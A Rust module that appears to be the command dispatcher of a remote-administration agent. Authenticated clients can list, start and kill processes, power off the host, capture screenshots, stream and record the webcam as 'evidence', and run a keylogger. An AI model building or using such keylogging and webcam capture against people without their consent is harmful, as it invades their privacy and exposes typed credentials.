//! Command dispatch for control-channel connections.
//!
//! Every inbound command goes through `dispatch`, the single gating point:
//! gated commands from unauthenticated connections are dropped without a
//! reply, handler errors become a status push, and a panicking handler is
//! contained so the connection stays usable.

use std::net::IpAddr;
use std::panic::AssertUnwindSafe;
use std::sync::Arc;
use std::time::Duration;

use dashmap::DashMap;
use futures_util::FutureExt;
use serde::Serialize;
use tokio::sync::mpsc::UnboundedReceiver;
use tracing::{debug, error, info};

use crate::cancel::CancelToken;
use crate::config::AgentConfig;
use crate::connection::ConnectionId;
use crate::error::{AppError, AppResult};
use crate::identity::{AuthSessionManager, AuthState, RegisterResult};
use crate::keylog::KeyLogRegistry;
use crate::media::{FrameSink, ProofMeta, ProofSink, ProofStore, ScreenCapture, WebcamStreamManager};
use crate::system::SystemControl;

use super::commands::{msg, Command, Event, ImageKind, StatusKind};
use super::hub::ConnectionHub;

/// Frame rate used by the legacy `RequestWebcam` command.
const LEGACY_WEBCAM_FPS: u32 = 10;

#[derive(Debug, Clone)]
pub struct DispatchSettings {
    pub default_fps: u32,
    pub proof_window: Duration,
    pub replay_interval: Duration,
}

impl DispatchSettings {
    pub fn from_config(cfg: &AgentConfig) -> Self {
        Self { default_fps: cfg.default_fps, proof_window: cfg.proof_window, replay_interval: Duration::from_millis(100) }
    }
}

impl Default for DispatchSettings {
    fn default() -> Self {
        Self { default_fps: 10, proof_window: Duration::from_secs(10), replay_interval: Duration::from_millis(100) }
    }
}

/// Everything a dispatcher routes commands to.
#[derive(Clone)]
pub struct Services {
    pub auth: Arc<AuthSessionManager>,
    pub hub: Arc<ConnectionHub>,
    pub webcam: Arc<WebcamStreamManager>,
    pub proofs: Arc<ProofStore>,
    pub keylog: Arc<KeyLogRegistry>,
    pub screen: Arc<dyn ScreenCapture>,
    pub system: Arc<dyn SystemControl>,
}

#[derive(Debug, Clone, Serialize)]
pub struct HealthReport {
    pub status: &'static str,
    pub connections: usize,
    pub authenticated: usize,
    pub keylog_subscribers: usize,
    pub webcam_sessions: usize,
}

pub struct Dispatcher {
    svc: Services,
    settings: DispatchSettings,
    /// Cancelled when the connection goes away.
    connections: DashMap<ConnectionId, CancelToken>,
}

fn is_loopback(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => v4.is_loopback(),
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map(|v4| v4.is_loopback()).unwrap_or_else(|| v6.is_loopback()),
    }
}

fn to_json<T: Serialize>(value: &T) -> AppResult<String> {
    serde_json::to_string(value).map_err(|e| AppError::internal("encode_failed", e.to_string()))
}

fn proof_list_event(proofs: &ProofStore) -> AppResult<Event> {
    Ok(Event::ReceiveWebcamProofList { json: to_json(&proofs.list())? })
}

impl Dispatcher {
    pub fn new(svc: Services, settings: DispatchSettings) -> Self {
        Self { svc, settings, connections: DashMap::new() }
    }

    pub fn services(&self) -> &Services { &self.svc }

    fn push(&self, conn: &ConnectionId, event: Event) -> AppResult<()> { self.svc.hub.send(conn, event) }

    fn status(&self, conn: &ConnectionId, kind: StatusKind, success: bool, message: impl Into<String>) -> AppResult<()> {
        self.push(conn, Event::status(kind, success, message))
    }

    fn cancel_token(&self, conn: &ConnectionId) -> CancelToken {
        self.connections.get(conn).map(|c| c.clone()).unwrap_or_default()
    }

    /// Register the connection, try silent token re-auth, then greet with the current state.
    pub fn on_connect(&self, conn: &ConnectionId, access_token: Option<&str>) -> UnboundedReceiver<Event> {
        let rx = self.svc.hub.register(conn);
        self.connections.insert(conn.clone(), CancelToken::new());
        if let Some(token) = access_token.filter(|t| !t.trim().is_empty()) {
            if self.svc.auth.authenticate_with_token(conn, token) {
                info!(target: "auth", conn = %conn, "re-authenticated from token");
            }
        }
        let greeting = self
            .status(conn, StatusKind::Auth, true, msg::CONNECTED)
            .and_then(|_| self.send_server_status(conn));
        if let Err(e) = greeting { debug!(target: "dispatch", conn = %conn, "greeting not delivered: {}", e); }
        rx
    }

    /// Tear down everything the connection owns. Safe to call more than once.
    pub async fn on_disconnect(&self, conn: &ConnectionId) {
        if let Some((_, cancel)) = self.connections.remove(conn) { cancel.cancel(); }
        self.svc.auth.logout(conn);
        self.svc.keylog.unsubscribe(conn);
        if let Some(meta) = self.svc.webcam.stop_and_save(conn, &CancelToken::new()).await {
            info!(target: "webcam", conn = %conn, id = %meta.id, "evidence saved on disconnect");
        }
        self.svc.hub.unregister(conn);
        debug!(target: "dispatch", conn = %conn, "connection torn down");
    }

    pub async fn dispatch(&self, conn: &ConnectionId, peer: IpAddr, cmd: Command) {
        let name = cmd.name();
        if cmd.requires_auth() && !self.svc.auth.is_authenticated(conn) {
            debug!(target: "dispatch", conn = %conn, command = name, "dropped unauthenticated command");
            return;
        }
        debug!(target: "dispatch", conn = %conn, command = name, "dispatch");
        let fallback = cmd.status_kind();
        match AssertUnwindSafe(self.handle(conn, peer, cmd)).catch_unwind().await {
            Ok(Ok(())) => {}
            Ok(Err(e)) if !e.is_reportable() => {
                debug!(target: "dispatch", conn = %conn, command = name, "{}", e);
            }
            Ok(Err(e)) => {
                info!(target: "dispatch", conn = %conn, command = name, "command failed: {}", e);
                let (kind, ok, message) = e.status_fields(fallback);
                let _ = self.status(conn, kind, ok, message);
            }
            Err(panic_payload) => {
                let detail = if let Some(s) = panic_payload.downcast_ref::<&str>() { *s }
                             else if let Some(s) = panic_payload.downcast_ref::<String>() { s.as_str() }
                             else { "panic" };
                error!(target: "dispatch", conn = %conn, command = name, "handler panic: {}", detail);
                let _ = self.status(conn, fallback, false, msg::COMMAND_FAILED);
            }
        }
    }

    async fn handle(&self, conn: &ConnectionId, peer: IpAddr, cmd: Command) -> AppResult<()> {
        match cmd {
            Command::GetServerStatus => self.send_server_status(conn),
            Command::GetServerStatusSilent => self.push(conn, Event::server_status(self.svc.auth.state(conn))),
            Command::SubmitSetupCode { code } => self.submit_setup_code(conn, &code),
            Command::RegisterUser { username, password } => self.register(conn, &username, &password).await,
            Command::Login { username, password } => self.login(conn, &username, &password).await,
            Command::Logout => self.logout(conn),
            Command::GetProcessList { apps_only } => self.process_list(conn, apps_only).await,
            Command::StartProcess { path } => {
                let ok = self.on_host("start_process", move |sys| sys.start_process(&path)).await?;
                self.status(conn, StatusKind::Start, ok, if ok { msg::START_OK } else { msg::START_FAILED })
            }
            Command::KillProcess { id } => {
                let ok = self.on_host("kill_process", move |sys| sys.kill_process(id)).await?;
                self.status(conn, StatusKind::Kill, ok, if ok { msg::KILL_OK } else { msg::KILL_FAILED })
            }
            Command::ShutdownServer { restart } => {
                let ok = self.on_host("power", move |sys| sys.power(restart)).await?;
                self.status(conn, StatusKind::Power, ok, msg::POWER)
            }
            Command::GetScreenshot => {
                let image = self.svc.screen.capture().await?;
                self.push(conn, Event::image(ImageKind::Screenshot, &image))
            }
            Command::StartWebcamLive { fps } => self.start_webcam(conn, fps.unwrap_or(self.settings.default_fps)).await,
            Command::RequestWebcam => self.start_webcam(conn, LEGACY_WEBCAM_FPS).await,
            Command::StopWebcamLive | Command::CloseWebcam => self.stop_webcam(conn),
            Command::GetWebcamProofList => self.push(conn, proof_list_event(&self.svc.proofs)?),
            Command::PlayWebcamProof { id } => self.play_proof(conn, &id).await,
            Command::StartKeyLogger => self.start_keylog(conn),
            Command::StopKeyLogger => self.stop_keylog(conn),
            Command::SubmitCapturedKey { data } => {
                if !is_loopback(peer) {
                    debug!(target: "keylog", %peer, "ignored key submission from non-loopback peer");
                } else if !data.trim().is_empty() {
                    self.svc.keylog.relay(&data);
                }
                Ok(())
            }
        }
    }

    fn send_server_status(&self, conn: &ConnectionId) -> AppResult<()> {
        let state = self.svc.auth.state(conn);
        let message = match state {
            AuthState::Authenticated => msg::STATUS_AUTHENTICATED,
            AuthState::RegistrationRequired => msg::STATUS_REGISTRATION,
            AuthState::LoginRequired => msg::STATUS_LOGIN,
        };
        self.status(conn, StatusKind::ServerStatus, true, message)?;
        self.push(conn, Event::server_status(state))
    }

    fn submit_setup_code(&self, conn: &ConnectionId, code: &str) -> AppResult<()> {
        if self.svc.auth.validate_setup_code(conn, code) {
            self.status(conn, StatusKind::Auth, true, msg::SETUP_CODE_ACCEPTED)?;
            self.push(conn, Event::server_status(AuthState::RegistrationRequired))
        } else {
            self.status(conn, StatusKind::Auth, false, msg::SETUP_CODE_INVALID)?;
            self.push(conn, Event::server_status(AuthState::LoginRequired))
        }
    }

    async fn register(&self, conn: &ConnectionId, username: &str, password: &str) -> AppResult<()> {
        let result = self.svc.auth.try_register(conn, username, password).await;
        let failure = match result {
            RegisterResult::Success => {
                self.status(conn, StatusKind::Auth, true, format!("Successfully registered account: {}. Please Log in.", username.trim()))?;
                return self.push(conn, Event::server_status(AuthState::LoginRequired));
            }
            RegisterResult::NotAllowed => msg::REGISTRATION_NOT_ALLOWED,
            RegisterResult::GrantExpired => msg::REGISTRATION_EXPIRED,
            RegisterResult::UsernameTaken => msg::USERNAME_TAKEN,
            RegisterResult::InvalidUsername => msg::INVALID_USERNAME,
            RegisterResult::InvalidPassword => msg::INVALID_PASSWORD,
            RegisterResult::Failed => msg::REGISTRATION_FAILED,
        };
        self.status(conn, StatusKind::Auth, false, failure)?;
        if matches!(result, RegisterResult::NotAllowed | RegisterResult::GrantExpired) {
            self.push(conn, Event::server_status(AuthState::LoginRequired))?;
        }
        Ok(())
    }

    async fn login(&self, conn: &ConnectionId, username: &str, password: &str) -> AppResult<()> {
        if !self.svc.auth.authenticate(conn, username, password).await {
            return self.status(conn, StatusKind::Auth, false, msg::INVALID_CREDENTIALS);
        }
        let username = self.svc.auth.username(conn).unwrap_or_else(|| username.trim().to_string());
        let token = self.svc.auth.issue_token(&username);
        if !token.is_empty() { self.push(conn, Event::ReceiveAuthToken { token })?; }
        self.status(conn, StatusKind::Auth, true, format!("Login successful, welcome {}.", username))?;
        self.push(conn, Event::server_status(AuthState::Authenticated))
    }

    fn logout(&self, conn: &ConnectionId) -> AppResult<()> {
        self.svc.auth.logout(conn);
        self.svc.keylog.unsubscribe(conn);
        if self.svc.webcam.is_active(conn) {
            let webcam = self.svc.webcam.clone();
            let c = conn.clone();
            tokio::spawn(async move { webcam.stop_and_save(&c, &CancelToken::new()).await; });
        }
        self.status(conn, StatusKind::Auth, true, msg::LOGGED_OUT)?;
        self.push(conn, Event::server_status(AuthState::LoginRequired))
    }

    /// Run a host call on the blocking pool; process table refreshes and spawns can stall.
    async fn on_host<T, F>(&self, what: &'static str, f: F) -> AppResult<T>
    where
        T: Send + 'static,
        F: FnOnce(&dyn SystemControl) -> T + Send + 'static,
    {
        let system = self.svc.system.clone();
        tokio::task::spawn_blocking(move || f(system.as_ref()))
            .await
            .map_err(|e| AppError::internal(what, e.to_string()))
    }

    async fn process_list(&self, conn: &ConnectionId, apps_only: bool) -> AppResult<()> {
        let list = self.on_host("process_list", move |sys| sys.list_processes(apps_only)).await?;
        self.push(conn, Event::ReceiveProcessList { json: to_json(&list)? })
    }

    async fn start_webcam(&self, conn: &ConnectionId, fps: u32) -> AppResult<()> {
        if self.svc.webcam.is_active(conn) {
            return self.status(conn, StatusKind::Webcam, true, msg::WEBCAM_RUNNING);
        }
        let window = self.settings.proof_window;
        let window_secs = window.as_secs();
        self.status(
            conn,
            StatusKind::Webcam,
            true,
            format!("Starting live webcam and recording the first {} seconds as evidence...", window_secs),
        )?;

        let on_frame: FrameSink = {
            let hub = self.svc.hub.clone();
            let c = conn.clone();
            Arc::new(move |frame: &[u8]| {
                let _ = hub.send(&c, Event::image(ImageKind::WebcamLive, frame));
            })
        };
        let on_saved: ProofSink = {
            let hub = self.svc.hub.clone();
            let proofs = self.svc.proofs.clone();
            let c = conn.clone();
            Arc::new(move |meta: &ProofMeta| {
                let note = format!("The first {}-second evidence has been saved: {}", window_secs, meta.id);
                let _ = hub.send(&c, Event::status(StatusKind::Webcam, true, note));
                if let Ok(list) = proof_list_event(&proofs) { let _ = hub.send(&c, list); }
            })
        };

        let ok = self.svc.webcam.start(conn, fps, window, on_frame, on_saved, self.cancel_token(conn)).await;
        self.status(conn, StatusKind::Webcam, ok, if ok { msg::WEBCAM_STARTED } else { msg::WEBCAM_START_FAILED })
    }

    fn stop_webcam(&self, conn: &ConnectionId) -> AppResult<()> {
        self.status(conn, StatusKind::Webcam, true, msg::WEBCAM_STOPPING)?;
        let webcam = self.svc.webcam.clone();
        let proofs = self.svc.proofs.clone();
        let hub = self.svc.hub.clone();
        let c = conn.clone();
        tokio::spawn(async move {
            let note = match webcam.stop_and_save(&c, &CancelToken::new()).await {
                Some(meta) => format!("Evidence saved: {} ({} frames).", meta.id, meta.frame_count),
                None => msg::WEBCAM_OFF_NO_EVIDENCE.to_string(),
            };
            let _ = hub.send(&c, Event::status(StatusKind::Webcam, true, note));
            if let Ok(list) = proof_list_event(&proofs) { let _ = hub.send(&c, list); }
        });
        Ok(())
    }

    async fn play_proof(&self, conn: &ConnectionId, id: &str) -> AppResult<()> {
        let id = id.trim().to_string();
        if id.is_empty() {
            return self.status(conn, StatusKind::Webcam, false, msg::NO_EVIDENCE_SELECTED);
        }
        let proofs = self.svc.proofs.clone();
        let lookup = id.clone();
        let frames = tokio::task::spawn_blocking(move || proofs.load_frames(&lookup))
            .await
            .map_err(|e| AppError::internal("proof_load", e.to_string()))?;
        if frames.is_empty() {
            return self.status(conn, StatusKind::Webcam, false, msg::EVIDENCE_NOT_FOUND);
        }
        self.status(conn, StatusKind::Webcam, true, format!("Playing evidence {} ({} frames)...", id, frames.len()))?;

        let hub = self.svc.hub.clone();
        let cancel = self.cancel_token(conn);
        let interval = self.settings.replay_interval;
        let c = conn.clone();
        tokio::spawn(async move {
            for frame in &frames {
                if hub.send(&c, Event::image(ImageKind::WebcamProofFrame, frame)).is_err() { return; }
                if !cancel.sleep(interval).await {
                    debug!(target: "webcam", conn = %c, id = %id, "replay cancelled");
                    return;
                }
            }
            let _ = hub.send(&c, Event::status(StatusKind::Webcam, true, msg::PLAYBACK_COMPLETED));
        });
        Ok(())
    }

    fn start_keylog(&self, conn: &ConnectionId) -> AppResult<()> {
        self.svc.keylog.subscribe(conn)?;
        self.push(conn, Event::key_log(msg::KEYLOG_ENABLED_BANNER))?;
        self.status(conn, StatusKind::Keylog, true, self.svc.keylog.describe_source())
    }

    fn stop_keylog(&self, conn: &ConnectionId) -> AppResult<()> {
        self.svc.keylog.unsubscribe(conn);
        self.push(conn, Event::key_log(msg::KEYLOG_DISABLED_BANNER))?;
        self.status(conn, StatusKind::Keylog, false, msg::KEYLOG_STOPPED)
    }

    pub fn health(&self) -> HealthReport {
        HealthReport {
            status: "ok",
            connections: self.svc.hub.len(),
            authenticated: self.svc.auth.session_count(),
            keylog_subscribers: self.svc.keylog.active_count(),
            webcam_sessions: self.svc.webcam.active_count(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{Ipv4Addr, Ipv6Addr};

    #[test]
    fn loopback_detection() {
        assert!(is_loopback(IpAddr::V4(Ipv4Addr::LOCALHOST)));
        assert!(is_loopback(IpAddr::V6(Ipv6Addr::LOCALHOST)));
        assert!(is_loopback(IpAddr::V6(Ipv4Addr::LOCALHOST.to_ipv6_mapped())));
        assert!(!is_loopback(IpAddr::V4(Ipv4Addr::new(192, 168, 1, 7))));
    }
}
